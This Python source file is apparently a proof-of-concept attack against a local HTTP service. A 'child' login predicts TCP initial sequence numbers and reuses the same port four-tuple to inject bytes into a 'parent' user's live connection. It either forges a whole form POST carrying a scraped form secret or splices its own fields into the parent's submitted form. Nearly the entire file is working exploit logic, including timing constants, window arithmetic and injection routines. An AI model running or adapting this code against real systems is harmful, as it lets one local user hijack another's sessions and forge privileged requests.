"""The two programs of the attack with two sockets that have the same four numbers (`LoginProgram`).

Options: `role`, "child", "parent" or "secret"; `port` of the door; `own`, the port of the client of each attempt; `kinds`, how each is
made; `start`, the moment of the first one; `secret`, which the child's own forms contain. Moments are nanoseconds of the clock of the day,
from which the kernel makes the first sequence numbers.

The child's socket is bound to the device `lo`. Its first sequence number and that of the parent's socket differ only by the time between
the two, because all four numbers are the same. They are equal again after `ROUND`. So the child connects that long before the parent, has
the service end its connection, and keeps its own end. What it then sends is near the place at which the service expects the bytes of the
parent, and after some line breaks, which HTTP ignores in front of a request, exactly there.

The child binds its socket only after the service has ended the connection. The kernel names no socket that is bound to a device, so the
daemon answers its first request with 403 and closes the connection. Then the child could acknowledge only that short answer, which is a
place long before those that the parent acknowledges, and the kernel would not accept its bytes later.
"""

import http.client
import socket
import sys
import time
from dataclasses import dataclass

import form_marks
from logins import PARENT, run
from peers import Peers

# One sequence number in 64 ns (secure_tcp_seq).
TICK = 64
ROUND = TICK << 32
SECOND = 1_000_000_000
# From one attempt to the next. A request whose answer the parent's kernel ignores has one of the parent's four places for ten seconds.
SPACING = 4 * SECOND
# The parent connects so long after the round. Until 4 ms after it, the parent's place is in the window of the child's connection.
LATENESS = 2_000_000
# After the round: when the child writes, and when the parent sends its next request. Nobody acknowledges the child's bytes, so after 200 ms
# its kernel only repeats them, and sends nothing new.
WRITES, ASKS = SECOND * 92 // 100, SECOND
# In seconds: how long the browser waits for an answer, so that it is ready for the next attempt.
PATIENCE = 0.8
# Each of them reads so many files of 17 KB before: the child has to acknowledge a place among the last 64 KB that the parent has read.
CHILD_FILES, PARENT_FILES = 4, 4
# The child is unsure about so many bytes. It sends them in pieces, and the kernel shows to every login when the service has taken some.
# It has at most ten packets on the way.
UNSURE, PIECE = 3_600, 1_200
# In the head of the parent's last request, as of a browser that has cookies of other programs of the PC.
COOKIE = f"Cookie: other={'x' * 3_000}\r\n"
# The child's head ends within this field, so after the length of the parent's form.
TARGET = 1_800
NAME = "Attack"
# The last field of the parent's form.
WORD = "Whole"
PATH = "/parent/children"
LOOK = "/look.css"
# A page for everybody that has a form.
CHOICE = "/who"
# A whole form of the child's; the parent's form with a field of the child's at its end; a part of the parent's form.
WHOLE, LONGER, SHORTER = "whole", "longer", "shorter"
LONGER_BYTES, SHORTER_BYTES = 2_000, 105
OPTION_BIND_TO_DEVICE = 25


def wait_until(moment: int) -> None:
    time.sleep(max(0, moment - time.time_ns()) / SECOND)


def client(own: int) -> socket.socket:
    """A socket that may share its port with another one."""
    one = socket.socket()
    one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    one.bind(("127.0.0.1", own))
    return one


def head(port: int, request: str, fields: str = "") -> str:
    return f"{request} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n{fields}"


def post(port: int, length: int) -> str:
    fields = f"Sec-Fetch-Site: same-origin\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {length}\r\n"
    return head(port, f"POST {PATH}", fields)


def read_answer(connection: socket.socket) -> tuple[str, str]:
    """The status and the content."""
    answer = http.client.HTTPResponse(connection)
    answer.begin()
    return str(answer.status), answer.read().decode()


@dataclass
class Twin:
    """The child's end of a connection that the service has ended."""

    connection: socket.socket
    made: int
    sent: int


class Child:
    def __init__(self, port: int, own: list[int], kinds: list[str], start: int, secret: str) -> None:
        self.port, self.own, self.kinds, self.start, self.secret = port, own, kinds, start, secret
        self.peers = Peers()
        # Of each kind, how often the service took bytes of the child for the parent's.
        self.arrived = dict.fromkeys(kinds, 0)

    def attack(self) -> dict[str, int]:
        # They stay open: an end of the child's would end the parent's request.
        twins = []
        for index, own in enumerate(self.own):
            wait_until(self.start + index * SPACING)
            twins.append(self.prepare(own))
        for index, (own, kind, twin) in enumerate(zip(self.own, self.kinds, twins)):
            planned = self.start + index * SPACING + ROUND
            wait_until(planned)
            if seen := self.seen(own, planned + LATENESS + SECOND // 20):
                wait_until(planned + WRITES)
                self.arrived[kind] += self.write(twin, own, kind, seen)
        return self.arrived

    def prepare(self, own: int) -> Twin:
        """A connection of which the service's end is gone, but not the child's."""
        twin = client(own)
        twin.settimeout(10)
        made = time.time_ns()
        twin.connect(("127.0.0.1", self.port))
        sent = 0
        for fields in ("",) * (CHILD_FILES - 1) + ("Connection: close\r\n",):
            request = (head(self.port, f"GET {LOOK}", fields) + "\r\n").encode()
            twin.sendall(request)
            sent += len(request)
            status, _ = read_answer(twin)
            if status != "200":
                # The kernel would accept none of the child's bytes later, and the attack would fail whatever the service does.
                sys.exit(f"Port {self.port} answered the child's request for a file with {status}.")
        while twin.recv(1 << 16):
            pass
        twin.setsockopt(socket.SOL_SOCKET, OPTION_BIND_TO_DEVICE, b"lo\0")
        return Twin(twin, made, sent)

    def seen(self, own: int, end: int) -> int | None:
        """When the parent's socket is there; None if it does not come."""
        while (now := time.time_ns()) < end:
            if self.peers.owner(("127.0.0.1", own), ("127.0.0.1", self.port)) == PARENT:
                return now
        return None

    def received(self, own: int) -> int:
        return self.peers.received(("127.0.0.1", self.port), ("127.0.0.1", own)) or 0

    def write(self, twin: Twin, own: int, kind: str, seen: int) -> bool:
        """Writes into the parent's connection; returns whether the service took it."""
        before = self.received(own)
        gap = (seen - twin.made - ROUND) // TICK + before - twin.sent
        try:
            return self.break_in(twin.connection, own, kind, before, gap)
        except OSError:
            return False

    def break_in(self, twin: socket.socket, own: int, kind: str, before: int, gap: int) -> bool:
        twin.send(b"\r\n" * (max(0, gap - UNSURE) // 2))
        for _ in range(2 * UNSURE // PIECE):
            twin.send(b"\r\n" * (PIECE // 2))
            time.sleep(0.002)
            if taken := self.received(own) - before:
                break
        else:
            return False
        if kind == WHOLE:
            form = form_marks.form(self.secret, PATH, f"name={NAME}{own}")
            twin.send((post(self.port, len(form)) + "\r\n" + form).encode())
            return True
        length = LONGER_BYTES if kind == LONGER else SHORTER_BYTES
        own_head = post(self.port, length).replace("Sec-Fetch-Site: same-origin\r\n", "") + "X: "
        filling = TARGET - taken - len(own_head)
        if filling < 0:
            return False
        twin.send(own_head.encode() + b"x" * filling)
        if kind == LONGER:
            self.append(twin, own, before)
        return True

    def append(self, twin: socket.socket, own: int, before: int) -> None:
        """Waits for the form of the parent, and writes to its end."""
        end = time.monotonic() + 0.3
        while (now := self.received(own)) <= before + TARGET and time.monotonic() < end:
            time.sleep(0.002)
        twin.send(b"x" * (now - before - TARGET) + f"&word={NAME}&rest=".encode() + b"x" * LONGER_BYTES)


class Browser:
    """The parent's: one connection for each attempt, with some requests, of which the last comes after a pause."""

    def __init__(self, port: int, own: list[int], kinds: list[str], start: int) -> None:
        self.port, self.own, self.kinds, self.start = port, own, kinds, start
        # Of each kind, how often the last request was answered with which status.
        self.statuses: dict[str, dict[str, int]] = {kind: {} for kind in kinds}

    def browse(self) -> dict[str, dict[str, int]]:
        for index, (own, kind) in enumerate(zip(self.own, self.kinds)):
            planned = self.start + index * SPACING + ROUND
            wait_until(planned + LATENESS)
            try:
                status = self.open(own, kind, planned)
            except (OSError, http.client.HTTPException):
                status = "broken"
            self.statuses[kind][status] = self.statuses[kind].get(status, 0) + 1
        return self.statuses

    def open(self, own: int, kind: str, planned: int) -> str:
        with client(own) as connection:
            connection.settimeout(PATIENCE)
            connection.connect(("127.0.0.1", self.port))
            page = self.ask(connection, f"GET {PATH}")[1]
            for _ in range(PARENT_FILES):
                self.ask(connection, f"GET {LOOK}")
            wait_until(planned + ASKS)
            if kind == WHOLE:
                return self.ask(connection, f"GET {PATH}", COOKIE)[0]
            form = form_marks.form(form_marks.secret(page), PATH, f"name=Own{own}&login=&known=&words={WORD}")
            fields = (f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(form)}\r\n"
                      f"Origin: http://127.0.0.1:{self.port}\r\n{COOKIE}Sec-Fetch-Site: same-origin\r\n")
            return self.ask(connection, f"POST {PATH}", fields, form)[0]

    def ask(self, connection: socket.socket, request: str, fields: str = "", form: str = "") -> tuple[str, str]:
        """The status and the content of the answer."""
        connection.sendall((head(self.port, request, fields) + "\r\n" + form).encode())
        return read_answer(connection)


def own_secret(port: int) -> str:
    """The secret of the forms of this login."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    connection.request("GET", CHOICE)
    return form_marks.secret(connection.getresponse().read().decode())


def work(options: dict) -> object:
    if options["role"] == "secret":
        return own_secret(options["port"])
    places = options["port"], options["own"], options["kinds"], options["start"]
    if options["role"] == "child":
        return Child(*places, options["secret"]).attack()
    return Browser(*places).browse()


if __name__ == "__main__":
    run(work)
